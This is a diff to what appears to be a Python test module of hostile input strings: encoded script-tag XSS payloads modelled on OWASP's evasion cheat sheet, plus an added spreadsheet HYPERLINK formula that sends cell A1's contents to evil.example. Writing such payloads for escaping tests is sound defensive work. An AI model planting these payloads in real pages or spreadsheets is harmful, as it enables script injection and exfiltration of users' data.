@@ -1,7 +1,7 @@
 """What people who mean harm write where a name, a headline or a note is asked for.
 
-Each runs ``pwn()`` if anything on a page takes it for code. The ways in are those of OWASP's XSS
-filter evasion cheat sheet.
+Each runs ``pwn()`` if anything on a page takes it for code; the last is for spreadsheets. The ways
+in are those of OWASP's XSS filter evasion cheat sheet.
 """
 
 from __future__ import annotations
@@ -42,4 +42,5 @@ PAYLOADS = (
     "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
     "&lt;script&gt;pwn()&lt;/script&gt;",
     "%3Cscript%3Epwn()%3C/script%3E",
+    '=HYPERLINK("https://evil.example/?"&A1,"pwn()")',
 )
